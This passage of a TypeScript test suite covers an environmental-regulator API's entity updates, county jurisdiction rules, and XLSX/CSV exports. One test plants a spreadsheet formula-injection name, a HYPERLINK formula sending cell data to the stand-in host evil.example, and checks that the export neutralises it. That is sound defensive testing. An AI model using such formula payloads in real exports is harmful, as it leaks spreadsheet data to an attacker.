      );
      expectError(await county.patch(`/api/entities/${created.id}`, {}), 400, 'VALIDATION_FAILED');
      expectError(
        await county.patch(`/api/entities/${created.id}`, { name: null }),
        400,
        'VALIDATION_FAILED',
        'name',
      );
      const [row] = await server.db
        .select()
        .from(regulatedEntities)
        .where(eq(regulatedEntities.id, created.id));
      expect(row).toMatchObject({
        name: '南昌县测试拒改化工有限公司',
        regionCode: nanchangTown,
        isSpecialSupervision: false,
      });
      expect(await auditEntriesAfter(server, auditBefore)).toHaveLength(0);

      // The province moves an entity to another county: the owner follows the region.
      const moved = await province.patch(`/api/entities/${created.id}`, { regionCode: jinxianTown });
      expect(moved.status, JSON.stringify(moved.body)).toBe(200);
      expect(moved.body).toMatchObject({ countyCode: '360124', ownerAgencyId: agencyId('360124-BUR') });
      expectError(await county.get(`/api/entities/${created.id}`), 404, 'NOT_FOUND');
      expect((await otherCounty.get(`/api/entities/${created.id}`)).status).toBe(200);
    });
  });

  describe('export', () => {
    async function loadWorkbook(response: TestResponse) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.raw.rawPayload as unknown as ArrayBuffer);
      return workbook.getWorksheet('监管对象')!;
    }

    it('exports the filtered list in the import columns; each row reads back as a valid entity', async () => {
      const filter = 'isKeyPolluter=true';
      const listed = await county.get(`/api/entities?${filter}&pageSize=200`);
      expect(listed.body.total).toBeGreaterThan(0);
      const auditBefore = await latestAuditId(server);
      const response = await county.get(`/api/entities/export.xlsx?${filter}`);
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(response.headers['content-disposition']).toContain(
        `filename*=UTF-8''${encodeURIComponent('监管对象名录-2026-11-20.xlsx')}`,
      );
      const sheet = await loadWorkbook(response);
      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(
        entityExchangeColumns.map((column) => column.header),
      );
      expect(sheet.rowCount - 1).toBe(listed.body.total);
      const exportedCodes: string[] = [];
      for (let rowNumber = 2; rowNumber <= sheet.rowCount; rowNumber++) {
        const row = sheet.getRow(rowNumber);
        const cells: Partial<Record<EntityExchangeKey, string>> = {};
        entityExchangeColumns.forEach((column, index) => {
          const value = row.getCell(index + 1).value;
          cells[column.key] = value === null || value === undefined ? '' : String(value);
        });
        const { candidate, errors } = readEntityExchangeRow(cells);
        expect(errors).toEqual([]);
        const parsed = entityInputSchema.safeParse(candidate);
        expect(parsed.success, JSON.stringify(parsed.error?.issues)).toBe(true);
        const [stored] = await server.db
          .select()
          .from(regulatedEntities)
          .where(eq(regulatedEntities.creditCode, parsed.data!.creditCode));
        expect(stored).toMatchObject({
          name: parsed.data!.name,
          regionCode: parsed.data!.regionCode,
          industryCode: parsed.data!.industryCode,
          permitClass: parsed.data!.permitClass,
          operatingStatus: parsed.data!.operatingStatus,
          longitude: parsed.data!.coordinates?.longitude ?? null,
        });
        expect(parsed.data!.keyPolluterMedia.length).toBeGreaterThan(0);
        exportedCodes.push(parsed.data!.creditCode);
      }
      expect(exportedCodes.sort()).toEqual(listed.body.items.map((item: Item) => item.creditCode).sort());
      const audits = await auditEntriesAfter(server, auditBefore);
      expect(audits).toHaveLength(1);
      expect(audits[0]).toMatchObject({ action: 'entities.export' });
      expect(audits[0]!.summary).toContain(`${listed.body.total} 条`);
    });

    it('exports CSV in UTF-8 with a byte-order mark, the same columns and rows, only from the own jurisdiction', async () => {
      const csv = await county.get('/api/entities/export.csv?operatingStatus=operating');
      expect(csv.status).toBe(200);
      expect(csv.headers['content-type']).toContain('text/csv');
      const text = csv.raw.body;
      expect(text.charCodeAt(0)).toBe(0xfeff);
      const lines = text.slice(1).trimEnd().split('\r\n');
      expect(lines[0]).toBe(entityExchangeColumns.map((column) => column.header).join(','));
      const listed = await county.get('/api/entities?operatingStatus=operating&pageSize=1');
      expect(lines.length - 1).toBe(listed.body.total);
      expect(text).toContain(nanchangEntity.creditCode);
      expect(text).not.toContain(jinxianEntity.creditCode);
      // Another county's export does not hold this county's entities.
      const other = await otherCounty.get('/api/entities/export.csv');
      expect(other.raw.body).not.toContain(nanchangEntity.creditCode);
      expect(other.raw.body).toContain(jinxianEntity.creditCode);
    });

    it('writes a name that starts like a spreadsheet formula as text, so Excel does not run it', async () => {
      const malicious = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
      const input = validInput({ name: malicious, contactPerson: '@SUM(1+1)' });
      expect((await county.post('/api/entities', input)).status).toBe(201);
      const csv = await county.get(`/api/entities/export.csv?q=${encodeURIComponent(input.creditCode)}`);
      expect(csv.status).toBe(200);
      const [, row] = csv.raw.body.slice(1).trimEnd().split('\r\n');
      expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`);
      expect(row).toContain(`,'@SUM(1+1),`);
      expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
    });
  });
});
